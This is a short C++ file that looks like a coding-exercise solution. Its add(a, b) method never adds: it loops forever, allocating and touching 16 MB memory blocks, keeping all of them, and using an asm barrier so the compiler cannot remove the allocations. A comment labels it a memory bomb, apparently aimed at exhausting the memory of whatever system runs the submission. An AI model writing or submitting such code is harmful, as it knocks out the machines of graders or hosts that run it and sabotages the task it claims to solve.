// Memory bomb: 16 MB blocks, touched and kept forever (kept where the optimizer cannot drop
// them).
class Solution {
public:
    int add(int a, int b) {
        static vector<char*> hog;
        for (;;) {
            char* block = new char[1 << 24];
            memset(block, 1, 1 << 24);
            hog.push_back(block);
            asm volatile("" : : "r"(block) : "memory");
        }
    }
};
